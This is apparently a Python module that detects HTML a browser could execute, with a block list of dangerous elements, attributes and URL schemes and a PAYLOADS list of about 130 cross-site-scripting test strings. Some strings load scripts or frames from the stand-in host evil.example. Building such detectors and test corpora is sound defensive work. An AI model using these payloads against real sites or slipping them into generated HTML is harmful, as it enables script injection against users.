"""Hostile HTML, and a function that finds what a browser could run in an HTML text."""

import re
import warnings
from collections.abc import Iterator
from html import unescape

from bs4 import BeautifulSoup

_ELEMENTS = {
    *("script", "style", "object", "embed", "applet", "base", "frame", "frameset", "link", "portal", "import"),
    *("set", "animate", "animatemotion", "animatetransform"),
}
_ADDRESSES = {
    *(
        "href",
        "xlink:href",
        "src",
        "srcset",
        "action",
        "formaction",
        "data",
        "poster",
        "background",
        "cite",
        "longdesc",
    ),
    *("dynsrc", "lowsrc", "ping", "manifest", "profile", "codebase", "classid", "archive", "code", "usemap", "icon"),
    *("imagesrcset", "from", "to", "by", "values", "folder"),
}
# Characters that browsers skip in a URL (https://url.spec.whatwg.org/#concept-basic-url-parser).
_SKIPPED_FIRST = "".join(map(chr, range(0x21)))
_SKIPPED = re.compile(r"[\t\n\r]")
_SCHEME = re.compile(r"(?:(?:feed|jar|view-source|wyciwyg):)*(?:javascript|vbscript|livescript|mocha|data):", re.I)
_IN_STYLE = re.compile(r"expression\s*\(|javascript:|vbscript:|data:|-moz-binding|behaviou?r\s*:|@import", re.I)
_CSS_COMMENT = re.compile(r"/\*.*?\*/", re.DOTALL)
_CSS_ESCAPE = re.compile(r"\\(?:([0-9a-f]{1,6})\s?|(.))", re.I | re.DOTALL)
# A tag and its attributes as browsers read them (https://html.spec.whatwg.org/multipage/parsing.html#tag-open-state).
# Each `<` before a letter counts as a tag, even in comments and values: clean HTML has none there.
_TAG = re.compile(r"(?=<([a-z][^\s/>]*)((?:[^>\"']|\"[^\"]*\"|'[^']*'){0,20000}))", re.I)
_ATTRIBUTE = re.compile(r"([^\s/>=][^\s/>=]*)(?:\s*=\s*(?:\"([^\"]*)\"|'([^']*)'|([^\s>]*)))?")


def executable(html: str) -> list[str]:
    """Return a line for each part that a browser could run, or that could redirect it. Clean HTML has none."""
    return list(dict.fromkeys(line for name, attributes in _tags(html) for line in _dangers(name, attributes)))


def _tags(html: str) -> Iterator[tuple[str, list[tuple[str, str]]]]:
    """Yield the tags as Python's parser reads them, and as browsers do: they differ on broken HTML."""
    with warnings.catch_warnings(action="ignore"):  # warnings that the text looks like XML or a URL
        soup = BeautifulSoup(html, "html.parser", multi_valued_attributes=None)
    for tag in soup.find_all(True):
        yield tag.name.lower(), [(name.lower(), str(value)) for name, value in tag.attrs.items()]
    for name, written in _TAG.findall(html):
        found = _ATTRIBUTE.findall(written)
        yield name.lower(), [(each[0].lower(), unescape("".join(each[1:]))) for each in found]


def _dangers(name: str, attributes: list[tuple[str, str]]) -> Iterator[str]:
    names = {attribute for attribute, _ in attributes}
    if name.rpartition(":")[2] in _ELEMENTS or (name == "meta" and "http-equiv" in names):
        yield f"<{name}>"
    if name == "iframe" and "sandbox" not in names:
        yield "<iframe> without a sandbox"
    for attribute, value in attributes:
        if _is_dangerous(attribute, value):
            yield f"<{name} {attribute}={value!r}>"


def _is_dangerous(attribute: str, value: str) -> bool:
    if attribute.startswith("on") or attribute == "srcdoc":
        return True
    if attribute == "style":
        return bool(_IN_STYLE.search(_read_style(value)))
    return attribute in _ADDRESSES and any(map(_runs, re.split(r"[,;]", value)))


def _runs(address: str) -> bool:
    return bool(_SCHEME.match(_SKIPPED.sub("", address).lstrip(_SKIPPED_FIRST)))


def _read_style(value: str) -> str:
    """Return a style without comments, and with its escapes replaced by characters."""

    def character(match: re.Match) -> str:
        number = int(match[1], 16) if match[1] else 0
        return chr(number) if 0 < number < 0x110000 else match[2] or ""

    return _CSS_ESCAPE.sub(character, _CSS_COMMENT.sub("", value))


PAYLOADS: list[str] = [
    # Scripts.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/src=//evil.example/x.js></script>",
    "<script\n>alert(1)</script\n>",
    "<script>alert(1)",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script type=module>import('//evil.example/x.js')</script>",
    "<script>/*</p>*/alert(1)</script x>",
    "<script\x00>alert(1)</script>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><script href=data:text/javascript,alert(1) />",
    "<math><script>alert(1)</script></math>",
    # Event handlers.
    "<img src=x onerror=alert(1)>",
    '<img/src="x"/onerror=alert(1)>',
    '<img src="x"onerror="alert(1)">',
    "<img src='x'/onerror='alert(1)'//>",
    "<img src=x\nonerror\n=\nalert(1)>",
    "<img src=x oNeRrOr=alert(1)>",
    "<img \x0conerror=alert(1) src=x>",
    '<img """><img src=x onerror=alert(1)>">',
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=1",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<p onclick=alert(1)>words</p>",
    "<p onmouseover='alert(1)'>words</p>",
    "<a onfocus=alert(1) autofocus tabindex=0>words</a>",
    "<details open ontoggle=alert(1)><summary>words</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>words</marquee>",
    "<xss onpointerenter=alert(1) style=display:block>words</xss>",
    "<div contenteditable onbeforeinput=alert(1)>words</div>",
    "<p style='animation:x' onanimationstart=alert(1)>words</p>",
    "<ul><li onclick=alert(1)>one</li></ul>",
    # Links.
    "<a href=javascript:alert(1)>words</a>",
    "<a href='JaVaScRiPt:alert(1)'>words</a>",
    "<a href=' javascript:alert(1)'>words</a>",
    "<a href='\x01javascript:alert(1)'>words</a>",
    "<a href='java\tscript:alert(1)'>words</a>",
    "<a href='java\nscript:alert(1)'>words</a>",
    "<a href='jav&#x09;ascript:alert(1)'>words</a>",
    "<a href='jav&#x0A;ascript:alert(1)'>words</a>",
    "<a href='jav&Tab;ascript&colon;alert(1)'>words</a>",
    "<a href='java&NewLine;script:alert(1)'>words</a>",
    "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)'>words</a>",
    "<a href='&#0000106&#0000097&#0000118&#0000097script&#0000058alert(1)'>words</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)'>words</a>",
    "<a href='javascript://example.org/%0Aalert(1)'>words</a>",
    "<a href='vbscript:msgbox(1)'>words</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>words</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>words</a>",
    "<a href='feed:javascript:alert(1)'>words</a>",
    "<a href='view-source:javascript:alert(1)'>words</a>",
    "<a href=https://example.org/ href=javascript:alert(1)>words</a>",
    "<a href=javascript:alert(1) href=https://example.org/>words</a>",
    "<a linktype='page' id='1' href='javascript:alert(1)'>words</a>",
    "<a linktype='external' href='javascript:alert(1)'>words</a>",
    "<a href='https://www.google.com/url?q=javascript:alert(1)&amp;sa=D'>words</a>",
    "<a href='https://www.google.com/url?q=javascript%3Aalert(1)&amp;sa=D'>words</a>",
    "<a ping=javascript:alert(1) href=https://example.org/>words</a>",
    "<a href=https://example.org/ style=background:url(javascript:alert(1))>words</a>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>words</text></a></svg>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=9>words</text></a></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)>#x' /></svg>",
    "<math href=javascript:alert(1)>words</math>",
    "<math><mtext xlink:href=javascript:alert(1)>words</mtext></math>",
    "<map><area shape=default href=javascript:alert(1)></map>",
    # Forms.
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<form><button formaction=javascript:alert(1)>words</button></form>",
    "<isindex action=javascript:alert(1) type=image>",
    # Frames and other documents.
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe src=//evil.example/></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe srcdoc='&lt;img src=x onerror=alert(1)&gt;'></iframe>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<object data=javascript:alert(1)></object>",
    "<object data='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='></object>",
    "<embed src=//evil.example/x.swf allowscriptaccess=always>",
    "<applet code=x.class codebase=//evil.example/></applet>",
    "<portal src=//evil.example/>",
    # Elements that change the page itself.
    "<base href=javascript:alert(1)//>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,<script>alert(1)</script>'>",
    "<meta http-equiv=set-cookie content=a=b>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=data:text/html,<script>alert(1)</script>>",
    # Styles.
    "<style>@import '//evil.example/x.css';</style>",
    "<style>p{background:url(javascript:alert(1))}</style>",
    "<style><img src='</style><img src=x onerror=alert(1)>'></style>",
    "<p style='width:expression(alert(1))'>words</p>",
    "<p style='width:exp/**/ression(alert(1))'>words</p>",
    "<p style='background:url(java\\73 cript:alert(1))'>words</p>",
    "<p style='-moz-binding:url(//evil.example/x.xml#x)'>words</p>",
    "<p style='behavior:url(x.htc)'>words</p>",
    "<table background=javascript:alert(1)><tr><td background=javascript:alert(1)>words</td></tr></table>",
    # HTML that is parsed differently the second time.
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<title><a title='</title><img src=x onerror=alert(1)>'></title>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<iframe><img title='</iframe><img src=x onerror=alert(1)>'></iframe>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<svg><foreignObject><p><img src=x onerror=alert(1)></p></foreignObject></svg>",
    "<svg><desc><![CDATA[</desc><img src=x onerror=alert(1)>]]></svg>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!---><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![if !supportLists]><img src=x onerror=alert(1)><![endif]>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
    "<?xml-stylesheet href='javascript:alert(1)'?><p>words</p>",
    "</p title='><img src=x onerror=alert(1)>'>",
    "<p title='><img src=x onerror=alert(1)>",
    "<p title=`><img src=x onerror=alert(1)>`>words</p>",
    "<p/<img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;<img src=x onerror=alert(1)>",
    "<o:p><v:shape onclick=alert(1)>words</v:shape></o:p>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<a href='https://example.org/\"><img src=x onerror=alert(1)>'>words</a>",
    "<a href='https://example.org/&quot;&gt;&lt;img src=x onerror=alert(1)&gt;'>words</a>",
]
